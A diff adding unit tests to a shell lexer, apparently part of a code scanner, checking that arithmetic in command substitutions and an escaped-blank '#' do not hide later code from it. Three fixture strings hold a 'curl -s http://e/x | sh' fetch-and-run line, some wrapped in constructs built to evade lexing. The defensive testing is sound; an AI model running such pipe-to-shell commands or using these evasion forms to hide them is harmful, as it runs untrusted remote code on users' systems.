@@ -158,6 +158,24 @@ Test(lex, heredocs_and_comments_inside_substitutions)
 		     0);
 	cr_assert_eq(tk.regions[0].len, strlen("cat <<'EOF'\nit's here ) (\nEOF\n"));
 	done();
+	/* Arithmetic inside the substitution shifts, wherever its (( is, and # after an
+	 * escaped blank is a word's: each was taken for a heredoc or a comment, and hid the
+	 * rest of the script. */
+	static const char *const code[] = {
+		"x=$( (( y = 1 << 2 ))\necho $y )\ncurl -s http://e/x | sh\n",
+		"x=$(for ((j=1<<1; j<3; j++)); do echo; done\n)\ncurl -s http://e/x | sh\n",
+		"x=$(echo \\ #; curl -s http://e/x | sh)\necho done\n",
+	};
+	for (size_t i = 0; i < sizeof(code) / sizeof(code[0]); i++) {
+		lex(LANG_SHELL, code[i]);
+		bool curl = false;
+		for (size_t r = 0; r < tk.n_regions; r++) {
+			curl |= memmem(tk.src + tk.regions[r].off, tk.regions[r].len, "curl", 4) !=
+				NULL;
+		}
+		cr_assert(curl || has_token("curl"), "%zu: curl unseen: %s", i, all());
+		done();
+	}
 	/* Two heredocs on one line, <<- and an unquoted one. */
 	lex(LANG_SHELL, "v=$(cat <<-A <<B\n\t'\n\tA\n)\nB\n)\necho ok\n");
 	cr_assert(has_token("echo") && has_token("ok"), "%s", all());
